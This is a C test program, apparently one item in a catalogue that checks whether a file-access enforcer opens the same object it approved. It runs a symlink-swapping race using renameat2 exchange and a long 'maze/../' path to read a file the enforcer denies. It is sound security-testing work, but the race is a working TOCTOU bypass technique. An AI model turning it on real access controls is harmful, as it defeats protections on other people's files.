// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: the object that is opened is the object that was judged, although a
 * symbolic link on the way is exchanged all the time (catalogue B1).
 *
 *	opener			swapper			enforcer
 *	openat(link) --------------------------------->	resolves link: permitted
 *				renameat2(link, other,
 *				  RENAME_EXCHANGE)
 *	kernel walks link: denied <-------------------	lets the call through
 *
 * Both links lie in the scratch directory. The name that is opened goes in and
 * out of a directory hundreds of times before it comes to the link, so that the
 * kernel's walk gets there late enough for an exchange that had to wait for the
 * enforcer too (the mazes of Borisov, Johnson, Sastry and Wagner, Fixing Races
 * for Fun and Profit, USENIX Security 2005). Winning prints DATA and the content
 * of the denied file.
 */
#include "race.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

#define DETOUR "maze/../"

static char link_name[PATH_MAX], other_name[PATH_MAX], long_way[PATH_MAX];

static void place(char *name, const char *dir, const char *leaf, const char *target)
{
	join(name, dir, leaf);
	unlinkat(way_from, name, 0);
	if (symlinkat(target, way_from, name))
		broken("symlink %s: %s", name, strerror(errno));
}

/* The name of `leaf` in `dir`, behind detours for half of what a name may have. */
static void lengthen(char *name, const char *dir, const char *leaf)
{
	char maze[PATH_MAX];
	size_t end;

	join(maze, dir, "maze");
	if (mkdirat(way_from, maze, 0700) && errno != EEXIST)
		broken("mkdir %s: %s", maze, strerror(errno));
	join(name, dir, "");
	for (end = strlen(name); end + strlen(DETOUR) + strlen(leaf) < PATH_MAX / 2; end += strlen(DETOUR))
		memcpy(name + end, DETOUR, strlen(DETOUR));
	strcpy(name + end, leaf);
}

static void swap_run(struct flip *flip)
{
	for (unsigned int turn = 1; !atomic_load(&flip->stop); turn++) {
		syscall(SYS_renameat2, JUNK(way_from), link_name, JUNK(way_from), other_name,
			JUNK(RENAME_EXCHANGE));
		atomic_store(&flip->turns, turn);
		flip_pause();
	}
}

static void race(struct run *run, const char *first, const char *second)
{
	run_learn_decoy(run);
	place(link_name, run->dir, "link", first);
	place(other_name, run->dir, "other", second);
	lengthen(long_way, run->dir, "link");
	race_against_child(run, shared_memory(sizeof(struct flip)), swap_run, long_way);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run.limit = BENIGN_ROUNDS;
		race(&run, run.allowed, run.allowed);
		break;
	case MODE_DIRECT:
		run_plain_read(&run, run.denied);
		break;
	case MODE_ATTACK:
		race(&run, run.allowed, run.denied);
		break;
	}
	run_end(&run);
}
